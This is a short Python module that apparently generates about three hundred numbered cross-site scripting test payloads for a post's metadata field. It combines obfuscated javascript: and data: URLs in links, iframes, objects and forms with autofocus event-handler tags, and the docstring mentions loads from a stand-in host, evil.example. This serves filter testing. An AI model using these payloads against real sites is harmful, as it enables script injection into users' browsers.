"""Three hundred ways to have a page run, load or break something, each by its number.

What runs calls ``alert`` with the number, what loads asks https://evil.example for it. None has a
line end: each has to fit into one line of a post's metadata.
"""

from itertools import product
from pathlib import Path

_WRITTEN = Path(__file__).with_suffix(".txt").read_text("utf-8").removesuffix("\n").split("\n")
_URLS = (
    "javascript:alert({n})",
    "java&#09;script:alert({n})",
    "&#x6A;avascript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
)
_PLACES = (
    "<a href='%s'>x</a>",
    "<iframe src='%s'></iframe>",
    "<object data='%s'></object>",
    "<form action='%s'><input type=submit></form>",
    "[x](%s)",
)
_ELEMENTS = ("p", "b", "h1", "table", "abbr", "span")
_EVENTS = ("onfocus", "onpointerenter")
_MADE = (
    *(place % url for place, url in product(_PLACES, _URLS)),
    *(
        f"<{element} {event}=alert({{n}}) tabindex=0 autofocus>x</{element}>"
        for element, event in product(_ELEMENTS, _EVENTS)
    ),
)

PAYLOADS = tuple(
    payload.replace("{n}", str(number))
    for number, payload in enumerate(dict.fromkeys((*_WRITTEN, *_MADE)), 1)
)
